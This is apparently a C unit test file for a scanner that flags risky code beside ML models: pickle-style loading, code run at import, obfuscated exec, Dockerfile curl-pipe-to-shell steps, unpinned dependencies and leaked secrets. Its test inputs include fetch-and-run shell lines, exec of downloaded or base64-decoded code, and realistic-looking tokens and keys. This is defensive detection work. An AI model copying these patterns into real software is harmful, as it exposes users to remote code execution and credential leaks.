/*
 * Text beside a model: each case says which findings it must give, by code and line, and nothing else. Then each is cut at every place and changed
 * in every byte, in memory of its exact size.
 */
#include "tests/unit/test.h"

#include "format/source.h"

typedef struct source_case {
    const char *path, *text, *expected;
} source_case;

/* GitHub's checksum makes a token: this one was issued to nobody, its last six letters are the CRC of the others. */
#define TOKEN                        \
    "ghp_"                           \
    "4f8KqZ2mX9sLw7RbT1cVnY5hD3gJpA" \
    "0KXQlL"

static const source_case cases[] = {
    /* --- loading --- */
    {"a.py", "import pickle\npickle.load(f)\n", "SRC-PY-001:2"},
    {"a.py", "from pickle import loads as L\nx = [L(b) for b in c]\n", "SRC-PY-001:2"},
    {"a.py", "import joblib as jl\ndef f():\n    return jl.load('m')\n", "SRC-PY-001:3"},
    {"a.py", "from joblib import *\nload('m')\n", "SRC-PY-001:2"},
    {"a.py",
     "import torch\ntorch.load('a')\ntorch.load('a', weights_only=True)\ntorch.load('a',\n  "
     "weights_only=False)\n",
     "SRC-PY-001:2 SRC-PY-001:4"},
    {"a.py",
     "import yaml\nyaml.load(f)\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.load(f, "
     "yaml.CSafeLoader)\nyaml.safe_load(f)\n",
     "SRC-PY-001:2"},
    {"a.py", "import numpy as np\nnp.load('a')\nnp.load('a', allow_pickle=True)\nnp.load('a', None, True)\n",
     "SRC-PY-001:3 SRC-PY-001:4"},
    {"a.py", "import pandas as pd\npd.read_pickle('a')\n", "SRC-PY-001:2"},
    {"a.py",
     "from tensorflow import keras\nkeras.models.load_model('a')\nkeras.models.load_model('a', "
     "safe_mode=False)\n",
     "SRC-PY-001:3"},
    {"a.py",
     "m = AutoModel.from_pretrained('a/b', trust_remote_code=True)\nn = A.from_pretrained('a', "
     "trust_remote_code=False)\n",
     "SRC-PY-003:1"},
    {"a.py", "import dill, shelve, cloudpickle\ndill.loads(b)\nshelve.open('x')\ncloudpickle.load(f)\n",
     "SRC-PY-001:2 SRC-PY-001:3 SRC-PY-001:4"},
    /* --- at import --- */
    {"a.py", "import os\nos.system('x')\n", "SRC-PY-002:2"},
    {"a.py", "import os\ndef f():\n    os.system('x')\n", ""},
    {"a.py", "import os\nif __name__ == '__main__':\n    os.system('x')\nos.system('y')\n", "SRC-PY-002:4"},
    {"a.py", "import os\nif __name__ != '__main__':\n    os.system('x')\n", "SRC-PY-002:3"},
    {"a.py", "import os\nif __name__:\n    os.system('x')\n", "SRC-PY-002:3"},
    {"a.py", "import os\nif __name__ == '__main__': pass\nelse: os.system('x')\n", "SRC-PY-002:3"},
    {"a.py", "import os\nclass A:\n    os.system('x')\n    def m(self):\n        os.system('y')\n",
     "SRC-PY-002:3"},
    {"a.py", "import os\ndef f(x=os.system('x')): pass\n", "SRC-PY-002:2"},
    {"a.py", "import os\n@os.popen('x')\ndef f(): pass\n", "SRC-PY-002:2"},
    {"a.py", "import os\ndef a():\n    os.system('x')\ndef b():\n    a()\nb()\n", "SRC-PY-002:3"},
    {"a.py", "import subprocess\nfor i in range(3): subprocess.run(['a'])\n", "SRC-PY-002:2"},
    {"a.py", "from os import (system as\n  s, popen)\ns('x'); popen('y')\n", "SRC-PY-002:3 SRC-PY-002:3"},
    {"a.py", "o = __import__('os')\no.system('x')\n", "SRC-PY-002:2"},
    {"a.py", "import os\n(lambda: os.system('x'))()\nf = lambda a=os.system('y'): a\n",
     "SRC-PY-002:2 SRC-PY-002:3"},
    {"a.py", "import os\nf = lambda: os.system('x')\n", ""},
    {"a.py", "import os\n[os.system][0]('x')\n{'a': os.system}['a']('x')\n", "SRC-PY-002:2 SRC-PY-002:3"},
    {"a.py", "import os\na, b = os.system, 1\na('x')\nc = d = os.popen\nc('x')\n",
     "SRC-PY-002:3 SRC-PY-002:5"},
    {"a.py", "import os\n(os.system if x else y)('x')\n", "SRC-PY-002:2"},
    {"a.py", "import os\nn.s = os.system\nn.s('x')\n", "SRC-PY-002:3"},
    {"a.py", "import os\n@os.system\ndef f(): pass\n", "SRC-PY-002:2"},
    {"a.py", "import os\ndef d(f):\n    os.system('x')\n    return f\n@d\ndef g(): pass\n", "SRC-PY-002:3"},
    {"a.py", "import os\ndef d(f):\n    def w(): os.system('x')\n    return w\n@d\ndef g(): pass\n", ""},
    {"a.py", "import os\ndef f():\n    g()\ndef g():\n    os.system('x')\nf()\n", "SRC-PY-002:5"},
    {"a.py", "import os\nclass A:\n    def __init__(self): self.r()\n    def r(self): os.system('x')\nA()\n",
     "SRC-PY-002:4"},
    {"a.py", "import os\nclass A:\n    def r(self): os.system('x')\na = A()\n", ""},
    {"a.py", "import os\nclass A:\n    def r(self): os.system('x')\na = A()\na.r()\n", "SRC-PY-002:3"},
    {"a.py",
     "import os\nclass M(type):\n    def __new__(c, *a): os.system('x')\nclass A(metaclass=M): pass\n",
     "SRC-PY-002:3"},
    {"a.py",
     "import os, threading, atexit\nthreading.Thread(target=os.system).start()\natexit.register(os.system, "
     "'x')\nlist(map(os.system, c))\n",
     "SRC-PY-002:2 SRC-PY-002:3 SRC-PY-002:4"},
    {"a.py",
     "import subprocess, functools\nrun = functools.partial(subprocess.run, check=True)\nx = sorted(c, "
     "key=len)\n",
     ""},
    {"a.py", "import os\ngetattr(os, name)('x')\nf = getattr(os, name)\n", "SRC-PY-002:2"},
    {"a.py", "import os\ngetattr(os, chr(115) + 'ystem')('x')\n", "SRC-PY-004:2"},
    {"a.py", "import os\nos.\xef\xbd\x93ystem('x')\n", "SRC-PY-002:2"},
    {"a.py", "# -*- coding: rot13 -*-\nvzcbeg bf\n", "SRC-PY-004:1"},
    {"a.py", "# -*- coding: utf-8 -*-\nx = 1\n", ""},
    {"a.py", "import marshal\nexec(marshal.loads(b))\n", "SRC-PY-001:2 SRC-PY-004:2"},
    {"a.py", "import ctypes\nctypes.CDLL('libc.so.6').system(b'x')\n", "SRC-PY-002:2"},
    {"a.py", "x: str = 'a'\ny: int = os\nstr(b)\n", ""},
    {"Dockerfile",
     "\xef\xbb\xbf"
     "FROM python:3.12.1\nUSER a\nONBUILD RUN curl https://x | sh\n",
     "SRC-DKR-005:3"},
    {"Dockerfile", "ARG B=python:3.9-slim\nFROM $B\nARG U=root\nUSER ${U}\n", "SRC-DKR-002:2 SRC-DKR-001:4"},
    {"Dockerfile", "FROM python:${V:-3.7}-slim\nUSER a\n", "SRC-DKR-002:1"},
    {"Dockerfile", "FROM nvidia/cuda:12.2-base-ubuntu18.04\nUSER a\nCOPY --from=debian:stretch /a /b\n",
     "SRC-DKR-002:1 SRC-DKR-002:3"},
    {"Dockerfile", "FROM python:3.12.1 AS b\nUSER a\nFROM b\nCOPY --from=0 /a /b\nCOPY --from=b /a /b\n", ""},
    {"Dockerfile", "# escape=`\nFROM python:3.12.1\nUSER a\nRUN curl https://x `\n | sh\n", "SRC-DKR-005:4"},
    {"Dockerfile",
     "FROM python:3.12.1\nUSER a\nRUN [\"sh\", \"-c\", \"curl https://x | sh\"]\nRUN curl -o i.sh https://x "
     "&& sh i.sh\n",
     "SRC-DKR-005:3 SRC-DKR-005:4"},
    {"Dockerfile",
     "FROM python:3.12.1\nUSER a\nRUN V=$(curl https://x) && curl https://x/$V.tgz | tar xz && curl -o f "
     "https://x && echo h f | sha256sum -c && sh f\n",
     ""},
    {"Dockerfile",
     "FROM python:3.12.1\nUSER a\nARG U=https://x\nADD ${U}/y /\nADD git@github.com:a/b.git /\n",
     "SRC-DKR-004:4 SRC-DKR-004:5"},
    {"a.py", "import importlib\nimportlib.import_module('os').system('x')\n", "SRC-PY-002:2"},
    {"a.py", "import os\ngetattr(os, 'sys' + 'tem')('x')\n", "SRC-PY-002:2"},
    {"a.py", "import os\ns = os.system\ns('x')\n", "SRC-PY-002:3"},
    {"a.py", "import os\n(os.system)('x')\n", "SRC-PY-002:2"},
    {"a.py", "import os\nf\"{os.system('x')!r:>{10}}\"\n", "SRC-PY-002:2"},
    {"a.py", "__builtins__['eval']('1')\nglobals()['exec']('2')\n", "SRC-PY-002:1 SRC-PY-002:2"},
    {"a.py", "import sys\nsys.modules['os'].system('x')\n", "SRC-PY-002:2"},
    {"a.py", "import functools, os\nfunctools.partial(os.system, 'x')()\n", "SRC-PY-002:2"},
    {"a.py", "exec('import os\\nos.system(1)')\n", "SRC-PY-002:1 SRC-PY-002:1"},
    {"a.py", "\tx = 1\n", ""},
    {"a.py", "if 1:\n\tif 2:\n\t\tpass\n        import os\nos.system('x')\n", "SRC-PY-002:5"},
    {"a.py", "import os\nx = (\n1,\n# comment )\n2)\nos.system('x')\n", "SRC-PY-002:6"},
    {"a.py", "import os\nx = \\\n  os.system('x')\n", "SRC-PY-002:3"},
    {"tool", "#!/usr/bin/env python3\nimport os\nos.system('x')\n", "SRC-PY-002:3"},
    /* --- not what it looks like --- */
    {"a.py", "model.eval()\nre.compile('x')\ndf.eval('a')\n", ""},
    {"a.py", "def eval(x): return x\neval('1')\n", ""},
    {"a.py", "'''\nos.system('x')\n'''\nx = \"os.system('y')\"  # os.system('z')\n", ""},
    {"a.py", "from .pickle import load\nload(f)\n", ""},
    {"a.py", "def f(os):\n    pass\nf(1)\n", ""},
    {"a.py", "import os\nimport mine as os\nos.system('x')\n", ""},
    {"a.py", "x = f'{a:\"^10}' + rb'\\'' + '''\\''''  \n", ""},
    {"a.txt", "import os\nos.system('x')\n", ""},
    {"lib/site-packages/a.py", "import os\nos.system('x')\n", ""},
    /* --- hidden --- */
    {"a.py", "import base64\ndef f():\n    exec(base64.b64decode('eA=='))\n", "SRC-PY-004:3"},
    {"a.py", "import zlib\nc = zlib.decompress(b'x').decode()\ndef f():\n    eval(compile(c, 'x', 'exec'))\n",
     "SRC-PY-004:4"},
    {"a.py", "import requests\nexec(requests.get('http://x').text)\n", "SRC-PY-004:2"},
    {"a.py", "exec(bytes([105, 109]).decode())\n", "SRC-PY-004:1"},
    {"a.py", "import os\ndef f():\n    os.system('curl http://x | sh')\n", "SRC-PY-004:3"},
    /* --- broken --- */
    {"a.py", "x = 'abc\n", "SRC-PY-005:1"},
    {"a.py", "import os\nos.system('x'\n", "SRC-PY-002:2 SRC-PY-005:3"},
    /* --- Dockerfiles --- */
    {"Dockerfile", "FROM python:3.9-slim-buster\nUSER app\n", "SRC-DKR-002:1"},
    {"Dockerfile", "FROM python:3.12-slim-buster\nUSER app\n", "SRC-DKR-002:1"},
    {"Dockerfile", "FROM python:3.12-slim\nUSER app\n", ""},
    {"Dockerfile", "FROM registry:5000/ubuntu\nUSER app:app\n", "SRC-DKR-003:1"},
    {"Dockerfile", "FROM ubuntu:latest\nUSER 1000\n", "SRC-DKR-003:1"},
    {"Dockerfile", "FROM ubuntu@sha256:abc\nUSER 1000\n", ""},
    {"Dockerfile", "FROM python:3.12\n", "SRC-DKR-001:1"},
    {"Dockerfile", "FROM python:3.12\nUSER 0:0\n", "SRC-DKR-001:2"},
    {"Dockerfile", "FROM python:3.12 AS a\nUSER app\nFROM debian:12\nCOPY --from=a /x /y\n", "SRC-DKR-001:3"},
    {"Dockerfile", "FROM python:3.12 AS a\nUSER app\nFROM a\n", ""},
    {"Dockerfile", "FROM scratch\nUSER 1\nADD https://x/y /z\nADD --checksum=sha256:aa https://x/y /z\n",
     "SRC-DKR-004:3"},
    {"gpu.Dockerfile", "FROM scratch\nUSER 1\nRUN a && \\\n # c\n  curl -s https://x | bash\n",
     "SRC-DKR-005:3"},
    {"Dockerfile", "FROM scratch\nUSER 1\nRUN <<EOF\nwget -qO- x | sh\nEOF\nRUN true\n", "SRC-DKR-005:3"},
    {"Dockerfile",
     "FROM scratch\nUSER 1\nENV A=b API_KEY=\"k3yv4lue\"\nENV DB_PASSWORD hunter22\nARG TOKEN\nENV "
     "T_TOKEN=$X\n",
     "SRC-DKR-006:3 SRC-DKR-006:4"},
    {"Dockerfile", "FROM scratch\nUSER 1\nRUN pip install --no-cache-dir -r r.txt a==1 && pip install b\n",
     "SRC-DKR-007:3"},
    {"Dockerfile.md", "FROM ubuntu\n", ""},
    /* --- requirements --- */
    {"requirements.txt", "numpy==1\n--index-url https://pypi.org/simple\n# git+https://x\n", ""},
    {"requirements.txt", "--extra-index-url https://x\na @ git+https://x/y\nhttps://x/y.whl\n-i http://x\n",
     "SRC-REQ-001:1 SRC-REQ-001:2 SRC-REQ-001:3 SRC-REQ-001:4"},
    {"conda.yaml", "dependencies:\n- pip:\n  - numpy==1\n  - git+https://x/y\n", "SRC-REQ-001:4"},
    /* --- secrets --- */
    {"a.txt", "x\nkey = " TOKEN "\n", "SRC-SEC-001:2"},
    {"a.txt",
     "ghp_"
     "4f8KqZ2mX9sLw7RbT1cVnY5hD3gJpA"
     "0KXQl0",
     ""}, /* the checksum does not fit */
    {"a.cfg",
     "id = AKIA"
     "QX7RZ3M5WTL2KJ4V\n",
     "SRC-SEC-001:1"},
    {"a.cfg",
     "id = AKIA"
     "IOSFODNN7EXAMPLE\n",
     ""},
    {"a.cfg",
     "aws_secret_access_key = \"q7Zt9PmX2vKc"
     "L5wRb8NsYd1HfJg4TeUa6QoBxWzE\"\n",
     "SRC-SEC-001:1"},
    {"a.cfg", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n", ""},
    {"a.env",
     "HF=hf_"
     "QwErTyUiOpAsDfGhJkLzXcVbNmPoIuYtRe\n",
     "SRC-SEC-001:1"},
    {"a.env",
     "HF=hf_"
     "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
     ""},
    {"a.env",
     "DB=postgres://app:"
     "v9Kd72hsLq@db/x\nB=postgres://user:password@db/x\nC=redis://u:${P}@h\n",
     "SRC-SEC-001:1"},
    {"k.pem",
     "-----BEGIN RSA "
     "PRIVATE "
     "KEY-----\nMIIEowIBAAKCAQEAq7Zt9PmX2vKcL5wRb8NsYd1HfJg4TeUa6QoBxWzEpD3k\nVb8NsYd1HfJg4TeUa6\n-----END",
     "SRC-SEC-001:1"},
    {"k.pem",
     "-----BEGIN RSA "
     "PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----",
     ""},
    {"k.pem",
     "-----BEGIN PUBLIC "
     "KEY-----\nMIIEowIBAAKCAQEAq7Zt9PmX2vKcL5wRb8NsYd1HfJg4TeUa6QoBxWzEpD3kVb8NsYd1HfJg4TeUa6\n",
     ""},
};

static bool read_as(const char *path, bytes content, arena *a, report *r)
{
    arena_init(a, 32 << 20);
    report_init(r, a);
    unpack_budget budget = unpack_budget_new(content.len);
    format_input in = {.path = str_from_c(path), .content = content, .budget = &budget};
    return source_read(&in, r, NULL);
}

static void source_read_tells_code_and_line(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        AUTO_ARENA arena a;
        report r;
        assert_true(read_as(cases[i].path, str_bytes(str_from_c(cases[i].text)), &a, &r));
        char told[512] = "";
        size_t len = 0;
        for (size_t f = 0; f < r.finding_count; f++) {
            int added = snprintf(told + len, sizeof(told) - len, "%s%s:%u", f ? " " : "", r.findings[f].code,
                                 r.findings[f].line);
            len += (size_t)added;
        }
        if (strcmp(told, cases[i].expected) != 0)
            fail_msg("%s: told '%s', not '%s'\n%s", cases[i].path, told, cases[i].expected, cases[i].text);
        assert_int_equal(r.verdict, VERDICT_NOT_A_MODEL);
    }
}

static void source_read_survives_damage(void **state)
{
    (void)state;
    static const uint8_t others[] = {'"', '\'', '(', '{', '\n', '\\', '#', 0x80};
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        size_t len = strlen(cases[i].text);
        for (size_t at = 0; at < len; at++) {
            uint8_t *exact = malloc(at + 1);
            memcpy(exact, cases[i].text, at);
            AUTO_ARENA arena a;
            report r;
            (void)read_as(cases[i].path, (bytes){exact, at}, &a, &r);
            free(exact);
            exact = malloc(len);
            memcpy(exact, cases[i].text, len);
            for (size_t o = 0; o < COUNT_OF(others); o++) {
                exact[at] = others[o];
                AUTO_ARENA arena b;
                (void)read_as(cases[i].path, (bytes){exact, len}, &b, &r);
            }
            free(exact);
        }
    }
}

/* Deep and long texts end, and soon. */
static void source_read_is_bounded(void **state)
{
    (void)state;
    static const char *const pieces[] = {"(",          "[",      "f'{",  "lambda:", "a.b", "a=os\n",
                                         "if 1:\n ",   "os.",    "'a'+", "x(",      "\t",  "\\\n",
                                         "def f():\n", "\"\"\"", "not ", "*"};
    for (size_t i = 0; i < COUNT_OF(pieces); i++) {
        AUTO_BUF buf text;
        buf_init(&text, 1 << 20);
        buf_add_str(&text, STR("import os\n"));
        while (text.len < 200 * 1024) buf_add_str(&text, str_from_c(pieces[i]));
        AUTO_ARENA arena a;
        report r;
        assert_true(read_as("a.py", buf_bytes(&text), &a, &r));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(source_read_tells_code_and_line),
                                       cmocka_unit_test(source_read_survives_damage),
                                       cmocka_unit_test(source_read_is_bounded)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
